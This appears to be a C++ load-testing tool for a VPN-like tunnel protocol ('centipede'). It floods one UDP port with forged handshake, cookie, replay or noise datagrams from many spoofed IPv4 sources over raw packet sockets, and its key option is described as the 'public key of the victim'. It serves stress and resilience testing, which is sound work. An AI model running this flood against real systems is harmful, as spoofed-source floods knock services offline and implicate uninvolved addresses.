// Sends one kind of datagram from many made-up IPv4 sources, as fast as it goes or at a given rate, past routing and
// queueing disciplines: each frame stands ready in memory and is handed to the device as it is. Prints
// {"sent", "refused", "seconds", "rate", "bytes"}: frames that the device took and did not take, bytes of the IPv4
// packets that it took.
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sodium.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <span>
#include <stdexcept>
#include <string>
#include <system_error>
#include <thread>
#include <vector>

#include "base/address.h"
#include "base/bytes.h"
#include "base/file_descriptor.h"
#include "centipede/wire.h"
#include "forger.h"

namespace {

using namespace centipede;
using Clock = std::chrono::steady_clock;

struct Options {
  Forgery forgery;
  std::string device;
  std::string to_mac;
  std::string to;
  std::string from = "198.18.0.1";
  uint16_t port = CP_DEFAULT_PORT;
  size_t sources = 131072;
  double rate = 0;
  double seconds = 1;
  unsigned threads = 1;
};

[[noreturn]] void give_up(const std::string& what) {
  throw std::system_error(errno, std::system_category(), what);
}

// ---- Frames

uint16_t ip_checksum(const iphdr& header) {
  std::array<uint16_t, sizeof header / 2> words;
  std::memcpy(words.data(), &header, sizeof header);
  uint32_t sum = 0;
  for (const uint16_t word : words)
    sum += word;
  sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~(sum + (sum >> 16)));
}

uint32_t ipv4(const std::string& text) {
  const auto address = IpAddress::parse(text);
  if (!address || !address->is_v4()) throw std::invalid_argument("'" + text + "' is no IPv4 address");
  return load_be<uint32_t>(address->bytes().data());
}

struct Device {
  int index;
  ether_addr mac;
};

Device find_device(const std::string& name) {
  const FileDescriptor socket(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  ifreq request{};
  name.copy(request.ifr_name, IFNAMSIZ - 1);
  Device device{};
  if (ioctl(socket.get(), SIOCGIFINDEX, &request) != 0) give_up("finding " + name);
  device.index = request.ifr_ifindex;
  if (ioctl(socket.get(), SIOCGIFHWADDR, &request) != 0) give_up("finding " + name);
  std::memcpy(&device.mac, request.ifr_hwaddr.sa_data, sizeof device.mac);
  return device;
}

ether_addr parse_mac(const std::string& text) {
  std::array<unsigned, 6> bytes{};
  if (std::sscanf(text.c_str(), "%x:%x:%x:%x:%x:%x", &bytes[0], &bytes[1], &bytes[2], &bytes[3], &bytes[4],
                  &bytes[5]) != 6)
    throw std::invalid_argument("'" + text + "' is no Ethernet address");
  ether_addr mac{};
  std::ranges::copy(bytes, mac.ether_addr_octet);
  return mac;
}

// A frame for each source; the port differs with it and is never the tunnel's own. UDP has no checksum, as IPv4 allows.
std::vector<Payload> make_frames(const Options& options, const ether_addr& own_mac) {
  const ether_addr to_mac = parse_mac(options.to_mac);
  const uint32_t to = ipv4(options.to);
  const uint32_t from = ipv4(options.from);
  Forger forger(options.forgery);
  std::vector<Payload> frames;
  frames.reserve(options.sources);
  for (size_t i = 0; i < options.sources; ++i) {
    const Payload payload = forger.make();
    ether_header ethernet{};
    std::memcpy(ethernet.ether_dhost, &to_mac, sizeof to_mac);
    std::memcpy(ethernet.ether_shost, &own_mac, sizeof own_mac);
    ethernet.ether_type = htons(ETHERTYPE_IP);
    udphdr udp{};
    udp.source = htons(static_cast<uint16_t>(20000 + i % 40000));
    udp.dest = htons(options.port);
    udp.len = htons(static_cast<uint16_t>(sizeof udp + payload.size()));
    iphdr ip{};
    ip.version = 4;
    ip.ihl = sizeof ip / 4;
    ip.tot_len = htons(static_cast<uint16_t>(sizeof ip + sizeof udp + payload.size()));
    ip.ttl = 64;
    ip.protocol = IPPROTO_UDP;
    ip.saddr = htonl(from + static_cast<uint32_t>(i));
    ip.daddr = htonl(to);
    ip.check = ip_checksum(ip);
    Payload& frame = frames.emplace_back(sizeof ethernet + sizeof ip + sizeof udp + payload.size());
    std::memcpy(frame.data(), &ethernet, sizeof ethernet);
    std::memcpy(&frame[sizeof ethernet], &ip, sizeof ip);
    std::memcpy(&frame[sizeof ethernet + sizeof ip], &udp, sizeof udp);
    std::ranges::copy(payload, frame.end() - static_cast<ptrdiff_t>(payload.size()));
  }
  return frames;
}

// ---- Sending

FileDescriptor open_socket(const Device& device) {
  FileDescriptor socket(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));  // protocol 0: receives nothing
  const int on = 1;
  sockaddr_ll address{};
  address.sll_family = AF_PACKET;
  address.sll_ifindex = device.index;
  if (!socket || setsockopt(socket.get(), SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on) != 0 ||
      bind(socket.get(), reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0)
    give_up("opening a packet socket");
  return socket;
}

struct Tally {
  uint64_t sent = 0;
  uint64_t refused = 0;
  uint64_t bytes = 0;
};

Tally send_frames(std::span<Payload> frames, const FileDescriptor& socket, double rate, Clock::time_point end) {
  constexpr size_t largest_batch = 64;
  constexpr double batches_a_second = 2000;
  std::vector<iovec> vectors;
  for (Payload& frame : frames)
    vectors.push_back({frame.data(), frame.size()});
  std::vector<mmsghdr> messages(vectors.size());
  for (size_t i = 0; i < vectors.size(); ++i) {
    messages[i].msg_hdr.msg_iov = &vectors[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  const size_t batch =
      rate == 0 ? largest_batch : std::clamp<size_t>(static_cast<size_t>(rate / batches_a_second), 1, largest_batch);
  const auto start = Clock::now();
  Tally tally;
  for (size_t next = 0; Clock::now() < end;) {
    const auto offered = static_cast<double>(tally.sent + tally.refused);
    if (rate != 0)
      std::this_thread::sleep_until(std::min(
          end, start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(offered / rate))));
    const size_t count = std::min(batch, messages.size() - next);
    const int sent = sendmmsg(socket.get(), &messages[next], static_cast<unsigned>(count), 0);
    if (sent <= 0) {  // an error is about the first message
      if (errno != ENOBUFS && errno != EAGAIN) give_up("sending");
      ++tally.refused;
      ++next;
    } else {
      for (size_t i = next; i < next + static_cast<size_t>(sent); ++i)
        tally.bytes += vectors[i].iov_len - sizeof(ether_header);
      tally.sent += static_cast<size_t>(sent);
      next += static_cast<size_t>(sent);
    }
    if (next == messages.size()) next = 0;
  }
  return tally;
}

void flood(const Options& options) {
  const Device device = find_device(options.device);
  std::vector<Payload> frames = make_frames(options, device.mac);
  const unsigned threads = std::clamp<unsigned>(options.threads, 1, static_cast<unsigned>(frames.size()));
  const auto start = Clock::now();
  const auto end = start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(options.seconds));
  std::vector<Tally> tallies(threads);
  {
    std::vector<std::jthread> running;
    const size_t share = frames.size() / threads;
    for (unsigned i = 0; i < threads; ++i)
      running.emplace_back([&, i, socket = open_socket(device)] {
        tallies[i] = send_frames(std::span(frames).subspan(i * share, share), socket, options.rate / threads, end);
      });
  }
  const double seconds = std::chrono::duration<double>(Clock::now() - start).count();
  Tally total;
  for (const Tally& tally : tallies) {
    total.sent += tally.sent;
    total.refused += tally.refused;
    total.bytes += tally.bytes;
  }
  std::printf(R"({"sent": %lu, "refused": %lu, "bytes": %lu, "seconds": %.3f, "rate": %.0f})"
              "\n",
              total.sent, total.refused, total.bytes, seconds, static_cast<double>(total.sent) / seconds);
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"Floods one UDP port from many made-up sources."};
  Options options;
  app.add_option("kind", options.forgery.kind,
                 "initiation, response, cookie, unknown_session, control, replay or noise")
      ->required();
  app.add_option("--device", options.device, "goes out there")->required();
  app.add_option("--to-mac", options.to_mac, "Ethernet destination")->required();
  app.add_option("--to", options.to, "IPv4 destination")->required();
  app.add_option("--port", options.port, "UDP destination")->capture_default_str();
  app.add_option("--from", options.from, "first source, the others follow it")->capture_default_str();
  app.add_option("--sources", options.sources, "how many")->capture_default_str()->check(CLI::PositiveNumber);
  app.add_option("--key", options.forgery.key, "public key of the victim, for a valid mac1; else it is random");
  app.add_option("--hex", options.forgery.hex, "control: the session id; replay: the datagram");
  app.add_option("--size", options.forgery.size, "of data packets")->capture_default_str();
  app.add_option("--rate", options.rate, "frames a second, 0: as fast as it goes")->capture_default_str();
  app.add_option("--seconds", options.seconds, "how long")->capture_default_str();
  app.add_option("--threads", options.threads, "that send")->capture_default_str();
  try {
    app.parse(argc, argv);
    if (sodium_init() < 0) throw std::runtime_error("libsodium does not start");
    flood(options);
  } catch (const CLI::ParseError& error) {
    return app.exit(error);
  } catch (const std::exception& error) {
    std::fprintf(stderr, "flood: %s\n", error.what());
    return 1;
  }
  return 0;
}
